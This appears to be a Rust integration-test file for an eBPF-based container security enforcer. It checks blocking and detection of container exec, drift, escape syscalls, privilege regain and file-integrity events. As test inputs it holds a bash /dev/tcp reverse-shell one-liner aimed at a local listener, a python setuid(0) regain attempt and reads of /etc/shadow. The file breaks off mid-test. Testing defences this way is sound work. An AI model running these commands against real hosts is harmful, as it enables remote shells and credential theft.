//! The enforcer against real containers on this kernel: runc containers from the fixture
//! image's root filesystem (../shared/images/build-fixture-images.sh, `debian-app`), the
//! agent's real main loop with its eBPF programs, and the scenarios of issue 14: exec into a
//! running container blocked (enforce) and detected (audit), a deny-listed executable killed,
//! drift, a reverse shell against a local listener, a connect refused by cgroup/connect4, an
//! agent restart with events in the spool, a policy file with an error; and the same exec
//! controls in fanotify mode (EPERM before the program runs), with an agent killed while an
//! exec waits for it; and a crun container (podman's default runtime) identified from crun's
//! own state.
//!
//! Needs root, runc (crun for its test), BPF and the fixture rootfs; without them each test prints `SKIPPED:` and
//! why. The policy-error test needs none of them.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use kabuto_api::{AuditResult, RuntimeAuditEvent};
use kabuto_client::ServerClient;
use kabuto_enforcer::run::{Config, ExecEnforcement, RunError, Summary, run};

mod host;

use host::fixture_rootfs;

fn prerequisites() -> bool {
    host::prerequisites("the container tests")
}

/// The OCI runtime a test container runs on.
#[derive(Debug, Clone, Copy)]
enum Runtime {
    Runc,
    /// crun, podman's default. crun refuses a hybrid cgroup host whose cgroup2 hierarchy has
    /// a controller (hugetlb here); on one it runs in a mount namespace of its own with the
    /// cgroup2 hierarchy at /sys/fs/cgroup, as on a unified host, and names cgroups there.
    Crun,
}

impl Runtime {
    fn command(self) -> Command {
        match self {
            Runtime::Runc => Command::new("runc"),
            Runtime::Crun if host::cgroup2_mount() == Some("/sys/fs/cgroup/unified") => {
                let mut command = Command::new("unshare");
                command.args([
                    "-m",
                    "sh",
                    "-c",
                    "mount -t cgroup2 none /sys/fs/cgroup && exec crun \"$@\"",
                    "crun",
                ]);
                command
            }
            Runtime::Crun => Command::new("crun"),
        }
    }
}

/// A container running `sleep` on the fixture rootfs (read-only, a tmpfs on /tmp), on the
/// host's network (so it reaches the test's listeners on 127.0.0.1).
struct Container {
    id: String,
    runtime: Runtime,
    _bundle: tempfile::TempDir,
}

impl Container {
    fn start(name: &str) -> Container {
        Container::start_with(name, &[])
    }

    /// A container with extra OCI annotations (labels to scopes).
    fn start_with(name: &str, annotations: &[(&str, &str)]) -> Container {
        Container::start_custom(name, annotations, None)
    }

    /// With extra OCI annotations and, optionally, a host directory bound (read-write) at
    /// `/opt/tools`.
    fn start_custom(name: &str, annotations: &[(&str, &str)], tools: Option<&Path>) -> Container {
        Container::start_on(Runtime::Runc, name, annotations, tools)
    }

    fn start_on(
        runtime: Runtime,
        name: &str,
        annotations: &[(&str, &str)],
        tools: Option<&Path>,
    ) -> Container {
        let id = format!("kabuto-it-{name}-{}", std::process::id());
        let bundle = tempfile::tempdir().expect("bundle");
        let config = serde_json::json!({
            "ociVersion": "1.0.2",
            "process": {
                "terminal": false,
                "user": {"uid": 0, "gid": 0},
                "args": ["/bin/sleep", "600"],
                "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
                "cwd": "/",
                "capabilities": {
                    "bounding": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"],
                    "effective": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"],
                    "permitted": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"]
                },
                "rlimits": [{"type": "RLIMIT_NOFILE", "hard": 1024, "soft": 1024}],
                "noNewPrivileges": true
            },
            "root": {"path": fixture_rootfs(), "readonly": true},
            "hostname": name,
            "annotations": {
                "io.kabuto.image": "docker.io/fixture/debian-app:latest",
                "io.kubernetes.pod.name": format!("{name}-pod"),
                "io.kubernetes.pod.namespace": "kabuto-tests"
            },
            "mounts": [
                {"destination": "/proc", "type": "proc", "source": "proc"},
                {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"]},
                {"destination": "/tmp", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "nodev", "mode=1777"]},
                {"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"]}
            ],
            "linux": {
                "namespaces": [{"type": "pid"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}],
                "maskedPaths": ["/proc/kcore"],
                "readonlyPaths": ["/proc/sys"]
            }
        });
        let mut config = config;
        for (key, value) in annotations {
            config["annotations"][*key] = serde_json::Value::from(*value);
        }
        if let (Some(tools), Some(mounts)) = (tools, config["mounts"].as_array_mut()) {
            mounts.push(
                serde_json::json!({"destination": "/opt/tools", "type": "bind",
                "source": tools, "options": ["rbind", "rw"]}),
            );
        }
        std::fs::write(bundle.path().join("config.json"), config.to_string()).expect("config");
        let status = runtime
            .command()
            .args(["run", "-d", "--bundle"])
            .arg(bundle.path())
            .arg(&id)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .status()
            .expect("runtime run");
        assert!(status.success(), "{runtime:?} run {id}: {status}");
        Container {
            id,
            runtime,
            _bundle: bundle,
        }
    }

    /// The runtime's `exec` of `sh -c script`; stdout and stderr together, and the exit code.
    fn exec(&self, script: &str) -> (String, Option<i32>) {
        let out = self
            .runtime
            .command()
            .args(["exec", &self.id, "/bin/sh", "-c", &format!("{script} 2>&1")])
            .stdin(Stdio::null())
            .output()
            .expect("runc exec");
        let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
        text.push_str(&String::from_utf8_lossy(&out.stderr));
        (text, out.status.code())
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = self
            .runtime
            .command()
            .args(["delete", "-f", &self.id])
            .stderr(Stdio::null())
            .status();
    }
}

/// The agent's main loop on a thread.
struct Enforcer {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Result<Summary, RunError>>>,
    events: PathBuf,
}

impl Enforcer {
    fn start(config: Config) -> Enforcer {
        let stop = Arc::new(AtomicBool::new(false));
        let (tx, rx) = mpsc::channel();
        let events = config.events.clone().expect("an event file");
        let flag = Arc::clone(&stop);
        let thread = std::thread::spawn(move || {
            run(&config, &flag, |mode| {
                let _ = tx.send(mode.to_owned());
            })
        });
        match rx.recv_timeout(Duration::from_secs(60)) {
            Ok(mode) => eprintln!("{mode}"),
            Err(_) => {
                let result = thread.join().expect("agent thread");
                panic!("the enforcer did not start: {result:?}");
            }
        }
        Enforcer {
            stop,
            thread: Some(thread),
            events,
        }
    }

    fn stop(mut self) -> Summary {
        self.stop.store(true, Ordering::Relaxed);
        self.thread
            .take()
            .expect("running")
            .join()
            .expect("agent thread")
            .expect("the enforcer ran")
    }

    /// Waits for an audit event in the event file.
    fn wait_for(&self, what: impl Fn(&RuntimeAuditEvent) -> bool) -> RuntimeAuditEvent {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            if let Some(event) = read_events(&self.events).into_iter().find(|e| what(e)) {
                return event;
            }
            assert!(
                Instant::now() < deadline,
                "no such audit event in {:#?}",
                read_events(&self.events)
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Enforcer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn read_events(path: &Path) -> Vec<RuntimeAuditEvent> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|line| serde_json::from_str(line).expect("an audit event line"))
        .collect()
}

fn config(dir: &Path, policy: &str) -> Config {
    let policy_file = dir.join("policy.yaml");
    std::fs::write(&policy_file, policy).expect("policy");
    Config {
        policies: vec![policy_file],
        events: Some(dir.join("events.jsonl")),
        syslog: None,
        spool_dir: dir.join("spool"),
        spool_max_bytes: 1 << 20,
        server: None,
        policy_refresh: Duration::from_secs(30),
        state_roots: vec![PathBuf::from("/run/runc")],
        cgroup_root: None,
        host_root: Default::default(),
        host: "test-node".into(),
        exec_enforcement: ExecEnforcement::Kill,
    }
}

fn client(url: &str) -> ServerClient {
    ServerClient::new(url, "token", None, Duration::from_secs(10), "test").expect("client")
}

fn is(
    event: &RuntimeAuditEvent,
    container: &Container,
    control: &str,
    result: AuditResult,
) -> bool {
    event
        .container
        .as_ref()
        .is_some_and(|c| c.id == container.id)
        && event.control == control
        && event.result == result
}

#[test]
fn exec_into_a_container_is_blocked_in_enforce_mode_detected_in_audit_mode_and_bypassed() {
    if !prerequisites() {
        return;
    }
    let locked = Container::start("exec-enforce");
    let audited = Container::start("exec-audit");
    let bypassed = Container::start_with("exec-bypass", &[("kabuto.io/debug", "true")]);
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "- name: no-exec\n  enforce: true\n  scope: {{expression: v1 || v2, variables: [{{attribute: container.name, value: {}}}, {{attribute: container.name, value: {}}}]}}\n  container_exec: {{enabled: true}}\n\
         \x20 bypass_scope: {{enabled: true, scope: {{expression: v1, variables: [{{attribute: container.label, name: kabuto.io/debug, value: 'true'}}]}}}}\n\
         - name: watch-exec\n  enforce: false\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n  container_exec: {{enabled: true}}\n",
        locked.id, bypassed.id, audited.id
    );
    let enforcer = Enforcer::start(config(dir.path(), &policy));
    let (text, code) = locked.exec("echo entered");
    assert!(!text.contains("entered"), "the exec ran: {text}");
    assert_ne!(code, Some(0), "{text}");
    let blocked = enforcer.wait_for(|e| is(e, &locked, "KRT001", AuditResult::Block));
    assert_eq!(blocked.policy, "no-exec");
    assert_eq!(blocked.process.path, "/bin/sh");
    assert_eq!(blocked.host, "test-node");
    assert_eq!(
        blocked.image.as_deref(),
        Some("docker.io/fixture/debian-app:latest")
    );
    assert_eq!(
        blocked.pod.as_ref().map(|p| p.namespace.as_str()),
        Some("kabuto-tests")
    );
    assert!(
        blocked
            .evidence
            .enforcement
            .as_deref()
            .is_some_and(|e| e.contains("in the kernel")),
        "{blocked:?}"
    );
    let (text, code) = audited.exec("echo entered");
    assert_eq!(
        (text.trim(), code),
        ("entered", Some(0)),
        "audit mode lets it run"
    );
    let detected = enforcer.wait_for(|e| is(e, &audited, "KRT001", AuditResult::Detect));
    assert_eq!(detected.policy, "watch-exec");
    assert_eq!(detected.evidence.enforcement, None);
    let (text, code) = bypassed.exec("echo entered");
    assert_eq!(
        (text.trim(), code),
        ("entered", Some(0)),
        "the bypass scope lets it run"
    );
    assert!(
        read_events(&enforcer.events)
            .iter()
            .all(|e| e.container.as_ref().is_none_or(|c| c.id != bypassed.id)),
        "nothing recorded for the bypassed container"
    );
    let summary = enforcer.stop();
    assert_eq!((summary.dropped, summary.lost), (0, 0));
}

/// An image id as CRI-O writes it (the hex of the config digest).
const IMAGE_ID: &str = "5d41402abc4b2a76b9719d911017c592aaf4c9b1a7d3e6f8b0c2d4e6f8a0b2c4";

/// crun keeps other state than runc (`/run/crun/<id>/status` and a copy of `config.json`):
/// its containers are identified, judged and blocked the same way.
#[test]
fn crun_containers_are_identified_and_an_exec_into_one_is_blocked() {
    if !prerequisites() {
        return;
    }
    if Command::new("crun").arg("--version").output().is_err() {
        eprintln!("SKIPPED: crun is not installed (scripts/setup-runtime.sh)");
        return;
    }
    let container = Container::start_on(
        Runtime::Crun,
        "crun",
        &[
            ("io.kubernetes.container.name", "shop"),
            ("io.kubernetes.cri-o.ImageRef", IMAGE_ID),
        ],
        None,
    );
    let dir = tempfile::tempdir().expect("dir");
    let scope = "{expression: v1, variables: [{attribute: container.label, name: io.kubernetes.pod.name, value: crun-pod}]}";
    let policy = format!(
        "- name: no-exec\n  enforce: true\n  scope: {scope}\n  container_exec: {{enabled: true}}\n\
         - name: privileges\n  enforce: false\n  scope: {scope}\n  limit_container_privileges: {{enabled: true, privileged: true, netmode: true, pidmode: true}}\n"
    );
    let mut config = config(dir.path(), &policy);
    config.state_roots = vec![PathBuf::from("/run/crun")];
    let enforcer = Enforcer::start(config);
    let (text, code) = container.exec("echo entered");
    assert!(!text.contains("entered"), "the exec ran: {text}");
    assert_ne!(code, Some(0), "{text}");
    let blocked = enforcer.wait_for(|e| is(e, &container, "KRT001", AuditResult::Block));
    assert_eq!(blocked.process.path, "/bin/sh");
    assert_eq!(
        blocked.container.as_ref().map(|c| c.name.as_str()),
        Some("shop")
    );
    assert_eq!(
        blocked.image.as_deref(),
        Some("docker.io/fixture/debian-app:latest")
    );
    assert_eq!(
        blocked.image_digest,
        Some(format!("sha256:{IMAGE_ID}")),
        "CRI-O's image ref"
    );
    let pod = blocked.pod.as_ref().expect("the pod");
    assert_eq!(
        (pod.name.as_str(), pod.namespace.as_str()),
        ("crun-pod", "kabuto-tests")
    );
    // Its config gives it no network namespace of its own, and its own PID namespace: the
    // start-time control names the one it shares; it is not privileged.
    let started = enforcer.wait_for(|e| is(e, &container, "KRT008", AuditResult::Detect));
    assert_eq!(
        started.evidence.message,
        "the container started on the host's network namespace"
    );
    let summary = enforcer.stop();
    assert_eq!((summary.dropped, summary.lost), (0, 0));
}

#[test]
fn deny_listed_executables_drift_reverse_shells_and_blocked_ports() {
    if !prerequisites() {
        return;
    }
    let container = Container::start("protect");
    let dir = tempfile::tempdir().expect("dir");
    let shell_listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let shell_port = shell_listener.local_addr().expect("addr").port();
    let blocked_listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let blocked_port = blocked_listener.local_addr().expect("addr").port();
    let policy = format!(
        "name: protect\nenforce: true\n\
         scope: {{expression: v1, variables: [{{attribute: kubernetes.pod, value: 'protect-*'}}]}}\n\
         executable_blacklist: {{enabled: true, executables: [id]}}\n\
         drift_prevention: {{enabled: true}}\n\
         reverse_shell: {{enabled: true}}\n\
         port_block: {{enabled: true, block_outbound_ports: ['{blocked_port}']}}\n"
    );
    let enforcer = Enforcer::start(config(dir.path(), &policy));

    let (text, _) = container.exec("cd /tmp && id; echo rc=$?");
    assert!(text.contains("rc=137") && !text.contains("uid="), "{text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT002", AuditResult::Block));
    assert_eq!(event.process.path, "/usr/bin/id");
    assert_eq!(
        event.process.args,
        ["id"],
        "argv, read in the kernel at the exec"
    );
    // Read in the kernel too (the process was killed at once), as the container sees it:
    // across its /tmp mount, up to its root.
    assert_eq!(event.process.cwd.as_deref(), Some("/tmp"));
    assert_eq!(event.lineage.first().map(|p| p.comm.as_str()), Some("sh"));
    let (text, _) = container.exec("/bin/true; echo rc=$?");
    assert!(text.contains("rc=0"), "other programs run: {text}");

    let (text, _) = container.exec("cp /bin/echo /tmp/drifted && /tmp/drifted hello; echo rc=$?");
    assert!(text.contains("rc=137") && !text.contains("hello"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT004", AuditResult::Block));
    assert_eq!(event.process.path, "/tmp/drifted");

    let accept = std::thread::spawn(move || {
        let (mut stream, _) = shell_listener.accept().expect("accept");
        stream
            .set_read_timeout(Some(Duration::from_secs(3)))
            .expect("timeout");
        let _ = stream.write_all(b"echo owned\n");
        let mut got = String::new();
        let _ = stream.read_to_string(&mut got);
        got
    });
    let (text, _) = container.exec(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1; echo rc=$?'"
    ));
    let got = accept.join().expect("listener");
    assert!(
        !got.contains("owned") && !got.contains('#'),
        "the listener got a shell: {got:?}"
    );
    assert!(text.contains("rc=137"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT005", AuditResult::Block));
    assert_eq!(event.process.comm, "bash");
    assert_eq!(
        event.evidence.remote.as_deref(),
        Some(format!("127.0.0.1:{shell_port}").as_str())
    );

    let (text, _) = container.exec(&format!(
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{blocked_port}'"
    ));
    assert!(text.contains("Operation not permitted"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT012", AuditResult::Block));
    assert!(
        event
            .evidence
            .enforcement
            .as_deref()
            .is_some_and(|e| e.contains("EPERM")),
        "{event:?}"
    );
    // The host is not the container: it still connects.
    assert!(std::net::TcpStream::connect(("127.0.0.1", blocked_port)).is_ok());
    enforcer.stop();
}

#[test]
fn privilege_gains_and_escape_primitives_are_killed_and_activity_is_audited() {
    if !prerequisites() {
        return;
    }
    let hardened = Container::start("harden");
    let audited = Container::start("record");
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "- name: harden\n  enforce: true\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
         \x20 limit_new_privileges: true\n  container_escape: {{enabled: true}}\n\
         - name: record\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
         \x20 auditing: {{enabled: true, audit_all_processes: true, audit_all_network: true}}\n\
         \x20 container_escape: {{enabled: true}}\n",
        hardened.id, audited.id
    );
    let enforcer = Enforcer::start(config(dir.path(), &policy));

    // Escape primitives: killed at the syscall's entry, before the namespace or mount exists.
    let (text, _) = hardened.exec("unshare -m /bin/true; echo rc=$?");
    assert!(text.contains("rc=137"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &hardened, "KRT014", AuditResult::Block));
    assert_eq!(event.process.comm, "unshare");
    assert!(
        event
            .evidence
            .enforcement
            .as_deref()
            .is_some_and(|e| e.contains("syscall's entry")),
        "{event:?}"
    );
    let (text, _) = hardened.exec("mount -t tmpfs none /mnt; echo rc=$?");
    assert!(text.contains("rc=137"), "{text}");
    enforcer.wait_for(|e| {
        is(e, &hardened, "KRT014", AuditResult::Block) && e.evidence.message.contains("mounted")
    });
    // A process that dropped root asking for it back: killed. Root dropping to another uid is
    // no gain and runs; taking capabilities back as uid 1000 (setpriv keeps them) is one.
    let (text, _) = hardened.exec(
        "python3 -c 'import os; os.setgid(1000); os.setuid(1000); os.setuid(0); print(\"became root\")'; echo rc=$?",
    );
    assert!(
        text.contains("rc=137") && !text.contains("became root"),
        "{text}"
    );
    let event = enforcer.wait_for(|e| {
        is(e, &hardened, "KRT013", AuditResult::Block) && e.process.path == "/usr/bin/python3"
    });
    assert_eq!(event.process.uid, Some(1000), "{event:?}");
    assert!(
        event.evidence.message.contains("asked for uid 0"),
        "{event:?}"
    );
    let (text, _) = hardened.exec(
        "python3 -c 'import os; os.setgid(1000); os.setuid(1000); print(os.getuid())'; echo rc=$?",
    );
    assert!(text.contains("1000") && text.contains("rc=0"), "{text}");
    let (text, _) =
        hardened.exec("setpriv --reuid=1000 --regid=1000 --clear-groups /bin/true; echo rc=$?");
    assert!(text.contains("rc=137"), "{text}");
    enforcer.wait_for(|e| {
        is(e, &hardened, "KRT013", AuditResult::Block)
            && e.evidence.message.contains("capabilities")
    });

    // Audit mode: the same primitive runs (and fails for lack of privilege), detected; every
    // exec and the listening socket are recorded.
    let listener = TcpListener::bind("127.0.0.1:0").expect("free port");
    let port = listener.local_addr().expect("addr").port();
    drop(listener);
    let (text, _) = audited.exec(&format!(
        "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalAddr => \"127.0.0.1\", LocalPort => {port}, Listen => 1) or die \"$!\"; print \"listening\"'; unshare -m /bin/true; echo rc=$?"
    ));
    assert!(
        text.contains("listening") && !text.contains("rc=137"),
        "{text}"
    );
    enforcer.wait_for(|e| is(e, &audited, "KRT014", AuditResult::Detect));
    enforcer.wait_for(|e| {
        is(e, &audited, "KRT015", AuditResult::Detect)
            && e.evidence.message.contains("/usr/bin/perl` was executed")
    });
    let listen = enforcer.wait_for(|e| {
        is(e, &audited, "KRT015", AuditResult::Detect) && e.evidence.message.contains("listens on")
    });
    assert_eq!(
        listen.evidence.remote.as_deref(),
        Some(format!("127.0.0.1:{port}").as_str()),
        "{listen:?}"
    );
    enforcer.wait_for(|e| {
        is(e, &audited, "KRT015", AuditResult::Detect)
            && e.evidence.message.contains("bound a socket to")
    });
    assert!(
        read_events(&enforcer.events)
            .iter()
            .filter(|e| e.container.as_ref().is_some_and(|c| c.id == hardened.id))
            .all(|e| e.control != "KRT015"),
        "the hardened container is not audited"
    );
    let summary = enforcer.stop();
    assert_eq!((summary.dropped, summary.lost), (0, 0));
}

#[test]
fn image_lockdown_kills_executables_that_are_not_the_images() {
    if !prerequisites() {
        return;
    }
    let container = Container::start("image-lock");
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "name: image-only\nenforce: true\n\
         scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
         drift_prevention: {{enabled: true, image_lockdown: true}}\n",
        container.id
    );
    let enforcer = Enforcer::start(config(dir.path(), &policy));
    // The image's executables are walked by the scan engine on a thread once the container
    // is seen; until then image_lockdown cannot judge, so try until it does.
    let deadline = Instant::now() + Duration::from_secs(60);
    let text = loop {
        let (text, _) = container.exec("cp /bin/sleep /tmp/copied && /tmp/copied 5; echo rc=$?");
        if text.contains("rc=137") || Instant::now() > deadline {
            break text;
        }
    };
    assert!(text.contains("rc=137"), "never killed: {text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT004", AuditResult::Block));
    assert_eq!(event.process.path, "/tmp/copied");
    assert!(
        event
            .evidence
            .message
            .contains("not one of the image's executables"),
        "{event:?}"
    );
    // The image's own, through a link too (/bin/sh is dash), run.
    let (text, _) = container.exec("/bin/sleep 0 && /bin/sh -c true; echo rc=$?");
    assert!(text.contains("rc=0"), "{text}");
    let summary = enforcer.stop();
    assert_eq!((summary.dropped, summary.lost), (0, 0));
}

#[test]
fn a_write_to_a_read_only_path_is_killed_and_monitored_files_are_detected() {
    if !prerequisites() {
        return;
    }
    let container = Container::start("files");
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "- name: ro\n  enforce: true\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {id}}}]}}\n  readonly_files: {{enabled: true, readonly_files: ['/tmp/protected/*']}}\n\
         - name: fim\n  enforce: false\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {id}}}]}}\n  file_integrity_monitoring: {{enabled: true, monitored_files: ['/tmp/config/*']}}\n\
         - name: fim-reads\n  enforce: true\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {id}}}]}}\n  file_integrity_monitoring: {{enabled: true, monitored_files: [/etc/shadow], monitored_files_read: true}}\n",
        id = container.id
    );
    let (text, code) = container.exec("mkdir -p /tmp/protected /tmp/config");
    assert_eq!(code, Some(0), "{text}");
    let enforcer = Enforcer::start(config(dir.path(), &policy));
    let (text, _) = container
        .exec("(echo secret > /tmp/protected/file); echo rc=$?; cat /tmp/protected/file; echo end");
    assert!(text.contains("rc=137"), "{text}");
    assert!(!text.contains("secret"), "the write happened: {text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT006", AuditResult::Block));
    assert_eq!(event.evidence.file.as_deref(), Some("/tmp/protected/file"));
    let (text, _) = container.exec("echo a: 1 > /tmp/config/app.yaml; cat /tmp/config/app.yaml");
    assert_eq!(text.trim(), "a: 1", "monitoring lets it happen");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT007", AuditResult::Detect));
    assert_eq!(event.policy, "fim");
    // A read of a file whose reads are monitored: detected (never blocked), from a relative
    // path made whole; other reads are not.
    let (text, code) = container.exec("cd /etc && head -c 5 shadow; head -c 4 hostname");
    assert_eq!(code, Some(0), "monitoring lets it read: {text}");
    let event = enforcer
        .wait_for(|e| is(e, &container, "KRT007", AuditResult::Detect) && e.policy == "fim-reads");
    assert_eq!(event.evidence.file.as_deref(), Some("/etc/shadow"));
    assert_eq!(event.process.path, "/usr/bin/head");
    assert!(
        event.evidence.message.contains("read the monitored"),
        "{event:?}"
    );
    let summary = enforcer.stop();
    assert!(
        read_events(&dir.path().join("events.jsonl"))
            .iter()
            .all(|e| e.evidence.file.as_deref() != Some("/etc/hostname")),
        "only monitored reads are reported"
    );
    assert_eq!(summary.lost, 0);
}

/// A one-request-at-a-time HTTP server that takes audit events (204, their bodies to the
/// receiver) and has nothing else (404: no runtime policies, no enforcer list).
fn audit_server() -> (String, mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut reader = BufReader::new(stream.try_clone().expect("clone"));
            let mut length = 0;
            let mut line = String::new();
            let _ = reader.read_line(&mut line);
            // The enforcer also asks for the server's policies and reports itself: only
            // audit events are this server's.
            let events = line.starts_with("POST /api/v1/audit/events ");
            line.clear();
            while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = v.trim().parse().unwrap_or(0);
                }
                line.clear();
            }
            let mut body = vec![0; length];
            let _ = reader.read_exact(&mut body);
            if !events {
                let _ = stream.write_all(
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
                continue;
            }
            let _ = stream.write_all(
                b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
            if tx
                .send(String::from_utf8_lossy(&body).into_owned())
                .is_err()
            {
                return;
            }
        }
    });
    (url, rx)
}

#[test]
fn events_wait_in_the_spool_across_a_restart_until_the_server_takes_them() {
    if !prerequisites() {
        return;
    }
    let container = Container::start("spool");
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "name: spool-test\nenforce: false\n\
         scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
         executable_blacklist: {{enabled: true, executables: [id]}}\n",
        container.id
    );
    // A server address nothing listens on: every delivery fails.
    let closed = TcpListener::bind("127.0.0.1:0").expect("bind");
    let closed_url = format!("http://{}", closed.local_addr().expect("addr"));
    drop(closed);
    let mut first = config(dir.path(), &policy);
    first.server = Some(client(&closed_url));
    let enforcer = Enforcer::start(first.clone());
    let (text, _) = container.exec("id -u");
    assert_eq!(text.trim(), "0", "audit mode: id runs");
    enforcer.wait_for(|e| is(e, &container, "KRT002", AuditResult::Detect));
    enforcer.stop();
    let spooled: u64 = std::fs::read_dir(dir.path().join("spool"))
        .expect("spool")
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with("segment-"))
        .map(|e| e.metadata().map(|m| m.len()).unwrap_or(0))
        .sum();
    assert!(spooled > 0, "the undelivered event is in the spool");

    let (url, bodies) = audit_server();
    let mut second = first;
    second.server = Some(client(&url));
    let enforcer = Enforcer::start(second);
    let body = bodies
        .recv_timeout(Duration::from_secs(15))
        .expect("a delivery after the restart");
    let sent: serde_json::Value = serde_json::from_str(&body).expect("json");
    let event = &sent["events"][0];
    assert_eq!(event["action"], "Runtime.executable_blacklist.Detect");
    assert_eq!(event["detail"]["policy"], "spool-test");
    assert_eq!(event["target"], format!("container {}", container.id));
    enforcer.stop();
    assert_eq!(
        read_events(&dir.path().join("events.jsonl"))
            .iter()
            .filter(|e| e.control == "KRT002")
            .count(),
        1,
        "the event file got it once, before the restart"
    );
}

#[test]
fn a_policy_file_with_an_error_stops_the_enforcer_with_its_line() {
    let dir = tempfile::tempdir().expect("dir");
    let broken = config(
        dir.path(),
        "name: broken\nenforce: true\ncontainer_exec:\n  enabled: yes please\n",
    );
    let stop = AtomicBool::new(true);
    let error = run(&broken, &stop, |_| panic!("must not start")).expect_err("refused");
    assert!(matches!(error, RunError::Policy(_)), "{error}");
    let text = error.to_string();
    let no_sink = Config {
        events: None,
        server: None,
        ..config(dir.path(), "name: fine\n")
    };
    let error = run(&no_sink, &stop, |_| panic!("must not start")).expect_err("no sink");
    assert!(matches!(error, RunError::NoSink), "{error}");
    assert!(
        text.starts_with(&format!(
            "{}:4:3: field `container_exec.enabled`",
            dir.path().join("policy.yaml").display()
        )),
        "{text}"
    );
}

/// Whether this kernel lets fanotify decide execs; or a printed note.
fn fanotify() -> bool {
    match kabuto_enforcer::gate::ExecGate::probe() {
        Ok(()) => true,
        Err(e) => {
            eprintln!("SKIPPED: fanotify exec permission events are refused here: {e}");
            false
        }
    }
}

fn fanotify_config(dir: &Path, policy: &str) -> Config {
    Config {
        exec_enforcement: ExecEnforcement::Fanotify,
        ..config(dir, policy)
    }
}

fn denied_by_fanotify(event: &RuntimeAuditEvent) -> bool {
    event.evidence.enforcement.as_deref() == Some(kabuto_enforcer::gate::DENIED)
}

#[test]
fn fanotify_mode_denies_runtime_exec_deny_listed_files_and_drift_with_eperm() {
    if !prerequisites() || !fanotify() {
        return;
    }
    let locked = Container::start("fan-exec");
    let protected = Container::start("fan-protect");
    let audited = Container::start("fan-audit");
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "- name: no-exec\n  enforce: true\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n  container_exec: {{enabled: true}}\n\
         - name: protect\n  enforce: true\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n  executable_blacklist: {{enabled: true, executables: [id]}}\n  drift_prevention: {{enabled: true}}\n\
         - name: watch\n  enforce: false\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n  executable_blacklist: {{enabled: true, executables: [id]}}\n  drift_prevention: {{enabled: true}}\n",
        locked.id, protected.id, audited.id
    );
    let enforcer = Enforcer::start(fanotify_config(dir.path(), &policy));

    let (text, code) = locked.exec("echo entered");
    assert!(!text.contains("entered"), "the exec ran: {text}");
    assert_ne!(code, Some(0), "{text}");
    assert!(
